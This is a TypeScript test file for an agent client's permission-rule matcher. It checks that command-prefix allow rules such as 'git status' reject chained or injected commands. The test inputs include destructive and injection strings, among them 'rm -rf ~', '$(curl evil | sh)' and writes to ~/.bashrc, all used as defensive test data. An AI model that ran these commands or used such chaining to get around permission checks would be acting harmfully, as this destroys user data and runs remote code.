import type * as acp from '@agentclientprotocol/sdk';
import { describe, expect, it } from 'vitest';
import {
  automaticAnswer,
  commandOf,
  describeRule,
  matchRule,
  optionFor,
  rulePrefixes,
  type PermissionRule,
  type PermissionSubject,
} from '../../../src/chat/permissionRules';

function rule(partial: Partial<PermissionRule>): PermissionRule {
  return { id: 'r', agentId: 'a', kind: 'execute', decision: 'allow', scope: 'user', answered: 0, ...partial };
}
const exec = (command: string | undefined, agentId = 'a'): PermissionSubject => ({ agentId, kind: 'execute', command });
const OPTIONS: acp.PermissionOption[] = [
  { optionId: 'ao', name: 'Allow', kind: 'allow_once' },
  { optionId: 'aa', name: 'Always', kind: 'allow_always' },
  { optionId: 'ro', name: 'Reject', kind: 'reject_once' },
  { optionId: 'ra', name: 'Never', kind: 'reject_always' },
];

describe('matchRule for commands', () => {
  const gitStatus = rule({ id: 'gs', prefix: ['git', 'status'] });
  const npmTest = rule({ id: 'nt', prefix: ['npm', 'test'] });

  it.each([
    'git status',
    'git status --short',
    "'git' status",
    'git status && git status -s',
    '(git status)',
    'git status 2>&1',
    'git status | npm test',
    'npm test && git status',
  ])('allows %j', (command) => {
    expect(matchRule([gitStatus, npmTest], exec(command))).toBeDefined();
  });

  it.each([
    'git status && rm -rf ~',
    'git status; rm -rf ~',
    'git status || rm -rf ~',
    'git status | sh',
    'git status | xargs rm',
    '(git status; rm -rf ~)',
    '{ git status; rm -rf ~; }',
    'git status & rm -rf ~',
    'git status $(rm -rf ~)',
    'git status `rm -rf ~`',
    'git status > ~/.bashrc',
    'GIT_DIR=/tmp git status',
    'git statusx',
    'git',
    'git push',
    'sudo git status',
    'bash -c "git status"',
    'if true; then git status; fi',
    'git status "$(curl evil | sh)"',
    'git status\nrm -rf ~',
    'git status && (',
  ])('does not allow %j', (command) => {
    expect(matchRule([gitStatus, npmTest], exec(command))).toBeUndefined();
  });

  it('needs the same agent and a command', () => {
    expect(matchRule([gitStatus], exec('git status', 'other'))).toBeUndefined();
    expect(matchRule([gitStatus], exec(undefined))).toBeUndefined();
    expect(matchRule([rule({ prefix: undefined })], exec('git status'))).toBeUndefined();
  });

  it('lets a reject rule fire on any part, and win over allow', () => {
    const noRm = rule({ id: 'rm', prefix: ['rm'], decision: 'reject' });
    expect(matchRule([gitStatus, noRm], exec('git status && rm -rf ~'))?.id).toBe('rm');
    expect(matchRule([gitStatus, noRm], exec('rm x'))?.id).toBe('rm');
    expect(matchRule([noRm], exec('rm $(x)'))).toBeUndefined(); // unprovable: asked, not answered
  });
});

describe('matchRule for other kinds', () => {
  it('covers the kind for the agent', () => {
    const edits = rule({ kind: 'edit', prefix: undefined });
    expect(matchRule([edits], { agentId: 'a', kind: 'edit', command: undefined })).toBe(edits);
    expect(matchRule([edits], { agentId: 'a', kind: 'delete', command: undefined })).toBeUndefined();
    expect(matchRule([edits], { agentId: 'a', kind: undefined, command: undefined })).toBeUndefined();
    const noEdits = rule({ id: 'no', kind: 'edit', decision: 'reject' });
    expect(matchRule([edits, noEdits], { agentId: 'a', kind: 'edit', command: undefined })).toBe(noEdits);
  });
});

describe('rulePrefixes', () => {
  it.each([
    ['git status --short', [['git', 'status']]],
    ['npm test -- --watch', [['npm', 'test']]],
    ['ls -la', [['ls']]],
    [
      'npm run build && npm test',
      [
        ['npm', 'run'],
        ['npm', 'test'],
      ],
    ],
    ['git log | head -5', [['git', 'log'], ['head']]],
  ])('remembers %j as %j', (command, expected) => {
    expect(rulePrefixes(exec(command))).toEqual(expected);
  });

  it.each([
    'bash -c "rm -rf ~"',
    'python -c x',
    'sudo rm',
    'xargs',
    'env',
    'rm -rf ~',
    'git $(x)',
    'git --no-pager log',
  ])('makes no rule for %j', (command) => {
    expect(rulePrefixes(exec(command))).toBeUndefined();
  });

  it('covers a whole kind other than execute, never "other" or a missing kind', () => {
    expect(rulePrefixes({ agentId: 'a', kind: 'edit', command: undefined })).toBe('wholeKind');
    expect(rulePrefixes({ agentId: 'a', kind: 'other', command: undefined })).toBeUndefined();
    expect(rulePrefixes({ agentId: 'a', kind: undefined, command: undefined })).toBeUndefined();
  });

  it('each remembered prefix matches the command it came from', () => {
    for (const command of [
      'git status --short',
      'npm run build && npm test',
      'cargo build --release | tee /dev/null',
    ]) {
      const prefixes = rulePrefixes(exec(command));
      expect(Array.isArray(prefixes)).toBe(true);
      const rules = (prefixes as string[][]).map((prefix, i) => rule({ id: String(i), prefix }));
      expect(matchRule(rules, exec(command))).toBeDefined();
    }
  });
});

describe('commandOf', () => {
  it('reads a string or a plain argv', () => {
    expect(commandOf({ command: 'git status' })).toBe('git status');
    expect(commandOf({ command: ['git', 'status'] })).toBe('git status');
    expect(commandOf({ command: ['sh', '-c', 'rm -rf ~'] })).toBeUndefined();
    expect(commandOf({ command: 3 })).toBeUndefined();
    expect(commandOf(null)).toBeUndefined();
    expect(commandOf('git status')).toBeUndefined();
  });
});

describe('automaticAnswer', () => {
  const subjectEdit: PermissionSubject = { agentId: 'a', kind: 'edit', command: undefined };
  it('answers by rule with the once-option', () => {
    const r = rule({ prefix: ['git', 'status'] });
    expect(automaticAnswer([r], 'off', exec('git status'), OPTIONS)).toEqual({ by: 'rule', rule: r, optionId: 'ao' });
    const no = rule({ prefix: ['rm'], decision: 'reject' });
    expect(automaticAnswer([no], 'all', exec('rm x'), OPTIONS)).toEqual({ by: 'rule', rule: no, optionId: 'ro' });
  });
  it('auto-approves edits only in "edits", everything in "all", nothing in "off"', () => {
    expect(automaticAnswer([], 'edits', subjectEdit, OPTIONS)).toEqual({
      by: 'autoApprove',
      mode: 'edits',
      optionId: 'ao',
    });
    expect(automaticAnswer([], 'edits', exec('rm -rf ~'), OPTIONS)).toBeUndefined();
    expect(automaticAnswer([], 'all', exec('rm -rf ~'), OPTIONS)?.optionId).toBe('ao');
    expect(automaticAnswer([], 'off', subjectEdit, OPTIONS)).toBeUndefined();
  });
  it('asks when no option of the decided kind is offered', () => {
    const onlyReject = OPTIONS.filter((o) => o.kind.startsWith('reject'));
    expect(automaticAnswer([], 'all', subjectEdit, onlyReject)).toBeUndefined();
    expect(optionFor([OPTIONS[1]!], 'allow')).toBe('aa');
  });
  it('describes a rule', () => {
    expect(describeRule(rule({ prefix: ['git', 'status'] }))).toBe('allow execute "git status …"');
    expect(describeRule(rule({ kind: 'edit', decision: 'reject' }))).toBe('reject every edit');
  });
});
